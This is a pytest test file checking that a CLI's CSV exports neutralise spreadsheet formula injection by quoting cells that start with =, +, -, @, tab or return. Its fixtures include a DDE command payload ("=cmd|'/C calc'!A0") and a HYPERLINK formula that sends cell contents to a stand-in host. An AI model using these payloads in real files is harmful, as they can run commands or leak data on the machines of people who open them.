"""Exports are safe to open: no CSV cell runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json

import pytest

from oppmarket import cli, identity, transfer
from oppmarket.domain import OpportunityDraft

FORMULA_TITLE = '=HYPERLINK("http://x"&B2,"Open")'
FORMULA_NAME = "=cmd|'/C calc'!A0"
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def run(capsys, *argv):
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.fixture
def hostile(org, monkeypatch):
    """The organisation with a formula in a display name, a title, a skill and a
    posting (which eng1 applied to); the command line acts as the admin."""
    org.add_person("mallory", FORMULA_NAME, title="@SUM(A1:A9)", email="-m@example.com")
    org.add_skill("+Formulas", description="=1+1", aliases=["-fx"])
    opp = org.as_user("owner").post(OpportunityDraft(title=FORMULA_TITLE, description="-2+3",
                                                     hours_per_week=2, location="@home",
                                                     skills=[("+Formulas", 2, "required")]), publish=True)
    org.as_user("eng1").apply(opp.id, "hi")
    monkeypatch.setattr(identity, "os_login", lambda: "admin")
    return org


# ---------------------------------------------------------------- formulas


@pytest.mark.parametrize("what", sorted(cli.EXPORTS))
def test_no_csv_cell_starts_a_formula(capsys, db_url, hostile, tmp_path, what):
    code, out, _ = run(capsys, "--db", db_url, "export", what)
    assert code == 0
    target = tmp_path / f"{what}.csv"
    code, _, _ = run(capsys, "--db", db_url, "export", what, "-o", str(target))
    assert code == 0
    for text in (out, target.read_text(encoding="utf-8")):
        cells = cells_of(text)
        assert cells and not [c for c in cells if c.startswith(DANGEROUS_START)]
        assert any(c.startswith("'") for c in cells)  # the hostile row is there, quoted


def test_hostile_cells_come_out_quoted_and_exact_after_the_quote(capsys, db_url, hostile):
    _, people, _ = run(capsys, "--db", db_url, "export", "people")
    mallory = next(r for r in rows_of(people) if r["username"] == "mallory")
    assert mallory["display_name"] == "'" + FORMULA_NAME
    assert mallory["title"] == "'@SUM(A1:A9)" and mallory["email"] == "'-m@example.com"
    _, opps, _ = run(capsys, "--db", db_url, "export", "opportunities")
    (opp,) = rows_of(opps)
    assert opp["title"] == "'" + FORMULA_TITLE
    assert opp["description"] == "'-2+3" and opp["location"] == "'@home"
    assert opp["required_skills"] == "'+Formulas:2"
    assert opp["hours_per_week"] == "2" and opp["seats"] == "1"  # plain fields stay plain
    _, skills, _ = run(capsys, "--db", db_url, "export", "skills")
    skill = next(r for r in rows_of(skills) if r["name"] == "'+Formulas")
    assert skill["aliases"] == "'-fx" and skill["description"] == "'=1+1"
    _, apps, _ = run(capsys, "--db", db_url, "export", "applications")
    (app,) = rows_of(apps)
    assert app["opportunity_title"] == "'" + FORMULA_TITLE


def test_json_export_keeps_the_text_exact(capsys, db_url, hostile):
    _, out, _ = run(capsys, "--db", db_url, "export", "people", "--format", "json")
    assert {p["username"]: p["display_name"] for p in json.loads(out)}["mallory"] == FORMULA_NAME
    _, out, _ = run(capsys, "--db", db_url, "export", "opportunities", "--format", "json")
    assert json.loads(out)[0]["title"] == FORMULA_TITLE


@pytest.mark.parametrize("start", ["\t", "\r"])
def test_cells_starting_with_a_tab_or_return_are_quoted(start):
    # Stored text never holds either (input is cleaned), but a record handed to the
    # writer might; the csv module leaves a lone return unquoted, so look at the text.
    record = {"name": "Tabs", "category": "General", "aliases": [], "description": start + "=1+1"}
    text = transfer.to_text([record], transfer.SKILL_COLUMNS, "csv")
    assert text.endswith("\nTabs,General,,'" + start + "=1+1\n")


@pytest.mark.parametrize(
    "title",
    [FORMULA_TITLE, "+1", "-1", "@x", "'=x", "''=x", "'", "''", "'quoted", "it's fine", "plain"],
)
def test_quoted_cells_parse_back_to_the_original(tmp_path, title):
    record = {"kind": "gig", "title": title, "owner": "ivy", "hours_per_week": 2, "remote": True,
              "required_skills": [], "grows_skills": []}
    path = tmp_path / "o.csv"
    path.write_text(transfer.to_text([record], transfer.OPPORTUNITY_COLUMNS, "csv"), encoding="utf-8")
    assert [row.draft.title for row in transfer.parse_opportunities(path)] == [title]


def test_csv_export_imports_into_a_new_database_unchanged(capsys, db_url, hostile, tmp_path):
    fresh = f"sqlite:///{tmp_path / 'fresh.db'}"
    for what in ("skills", "people", "opportunities"):
        target = tmp_path / f"{what}.csv"
        assert run(capsys, "--db", db_url, "export", what, "-o", str(target))[0] == 0
        code, _, err = run(capsys, "--db", fresh, "import", what, str(target))
        assert code == 0, err

    def exported(url, what):
        records = json.loads(run(capsys, "--db", url, "export", what, "--format", "json")[1])
        for record in records:
            record.pop("id", None)
            record.pop("seats_taken", None)  # applications are not part of the files
        return records

    for what in ("skills", "people", "opportunities"):
        assert exported(fresh, what) == exported(db_url, what)

